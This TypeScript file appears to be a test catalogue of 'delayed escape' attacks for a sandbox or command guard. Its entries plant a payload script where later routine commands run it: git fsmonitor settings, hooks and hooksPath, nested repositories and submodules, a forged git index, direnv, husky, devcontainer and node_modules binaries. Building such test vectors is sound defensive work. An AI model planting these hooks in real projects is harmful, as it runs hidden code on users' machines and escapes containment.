import type { Attack } from '../attack.ts';

const group = 'delayed_escape';
/** What `payload.sh` of the project does, wherever it is run. */
const ran = { kind: 'changes', path: '{outside}/ran' } as const;
const payload = '{project}/payload.sh';

/** Git refuses such a path in its index when it is added, and not when it is read. */
const forgeIndex = [
  'let index = fs.readFileSync(".git/index").subarray(0, -20).toString("latin1").replace("xgit/hooks", ".git/hooks");',
  'index = Buffer.from(index.slice(0, index.indexOf("TREE") + 1 ? index.indexOf("TREE") : undefined), "latin1");',
  'fs.writeFileSync(".git/forged", Buffer.concat([index, crypto.createHash("sha1").update(index).digest()]));',
  'fs.renameSync(".git/forged", ".git/index");',
].join(' ');

/** A program of the project that a person has put into the settings of git. */
const settingsBefore =
  'mkdir tools && printf "#!/bin/sh\\n" > tools/check && chmod +x tools/check && git config core.fsmonitor ./tools/check';

/** Our own installation in the project, as `npm install toolcrib` makes it. */
const installed =
  'mkdir -p node_modules/toolcrib node_modules/dependency && echo \'{"name":"toolcrib","dependencies":{"dependency":"1"},"optionalDependencies":{"absent":"1"}}\' > node_modules/toolcrib/package.json && echo {} > node_modules/dependency/package.json && touch node_modules/toolcrib/run.sh node_modules/dependency/run.sh';

const plants: readonly (readonly [id: string, line: string, afterwards: string, before?: string])[] = [
  ['fsmonitor', `printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> .git/config`, 'git status'],
  ['git_config_command', `git config core.fsmonitor ${payload}`, 'git status'],
  [
    'common_folder',
    `mkdir fake; cp -r .git/objects .git/refs fake; printf '[core]\\n\\tfsmonitor = ${payload}\\n' > fake/config; echo ../fake > .git/commondir`,
    'git status',
  ],
  [
    'worktree_config',
    `printf '[core]\\n\\tfsmonitor = ${payload}\\n' > .git/config.worktree; printf '[extensions]\\n\\tworktreeConfig = true\\n' >> .git/config`,
    'git status',
  ],
  ['hook', 'mkdir -p .git/hooks; cp payload.sh .git/hooks/pre-commit', 'git commit -q --allow-empty -m x'],
  [
    'hook_on_status',
    'mkdir -p .git/hooks; cp payload.sh .git/hooks/post-index-change',
    'git add README.md; git status',
  ],
  [
    'hooks_folder',
    'cp payload.sh hooks_of_team/pre-commit',
    'git commit -q --allow-empty -m x',
    'mkdir hooks_of_team; git config core.hooksPath hooks_of_team',
  ],
  [
    'git_replaced',
    `mv .git real; cp -r real .git; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> .git/config`,
    'git status',
  ],
  [
    'git_as_file',
    `mv .git real; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> real/config; echo "gitdir: real" > .git`,
    'git status',
  ],
  [
    'nested_repository',
    `git init -q nested && git -C nested -c user.name=x -c user.email=x commit -q --allow-empty -m x && git add nested; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> nested/.git/config`,
    'git status',
  ],
  [
    'nested_git_file',
    `cp -r .git folder; printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> folder/config; mkdir nested; echo "gitdir: ../folder" > nested/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),nested`,
    'git status',
  ],
  [
    'submodule_config',
    `printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> .git/modules/nested/config`,
    'git status',
    'git init -q nested && git -C nested commit -q --allow-empty -m x && git add nested 2> /dev/null && git submodule absorbgitdirs 2> /dev/null || { mkdir -p .git/modules && mv nested/.git .git/modules/nested && echo "gitdir: ../.git/modules/nested" > nested/.git && git config -f .git/modules/nested/config core.worktree ../../../nested; }',
  ],
  [
    'bare_repository',
    `mkdir -p inner/objects inner/refs; echo "ref: refs/heads/x" > inner/HEAD; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = ${payload}\\n' > inner/config`,
    'cd inner && git status',
  ],
  [
    'index_path',
    `mkdir -p xgit/hooks; cp payload.sh xgit/hooks/post-checkout; git add xgit; rm -rf xgit .git/hooks; "{node}" -e '${forgeIndex}'`,
    'git checkout .; git checkout -q -b other',
  ],
  ['settings_program', 'cp payload.sh tools/check', 'git status', settingsBefore],
  [
    'included_settings',
    `printf '[core]\\n\\tfsmonitor = ${payload}\\n' >> settings.inc`,
    'git status',
    'touch settings.inc && git config include.path ../settings.inc',
  ],
  [
    'filter_program',
    'cp payload.sh tools/clean',
    'echo x > a.dat && git add a.dat',
    'mkdir tools && printf "#!/bin/sh\\ncat" > tools/clean && chmod +x tools/clean && git config filter.x.clean tools/clean && echo "*.dat filter=x" > .gitattributes',
  ],
  ['direnv', `echo '. ${payload}' > .envrc`, 'test -f .envrc && . ./.envrc'],
  [
    'hook_manager',
    'mkdir -p .husky; cp payload.sh .husky/pre-push',
    'test -f .husky/pre-push && sh .husky/pre-push',
  ],
  [
    'devcontainer',
    'mkdir -p .devcontainer; cp payload.sh .devcontainer/start.sh',
    'sh .devcontainer/start.sh',
  ],
  ['nested_editor', 'mkdir -p sub/.vscode; cp payload.sh sub/.vscode/task.sh', 'sh sub/.vscode/task.sh'],
  ['own_program', 'cp payload.sh node_modules/toolcrib/run.sh', 'sh node_modules/toolcrib/run.sh', installed],
  [
    'own_dependency',
    'cp payload.sh node_modules/dependency/run.sh',
    'sh node_modules/dependency/run.sh',
    installed,
  ],
  [
    'own_dependency_planted',
    'mkdir -p node_modules/absent; cp payload.sh node_modules/absent/run.sh',
    'sh node_modules/absent/run.sh',
    installed,
  ],
  [
    'own_name_planted',
    'mkdir -p node_modules/.bin; cp payload.sh node_modules/.bin/toolcrib',
    'sh node_modules/.bin/toolcrib',
  ],
];

export const delayedEscape: readonly Attack[] = plants.map(([id, line, afterwards, before]) => ({
  id,
  group,
  line,
  effect: ran,
  before,
  afterwards,
}));
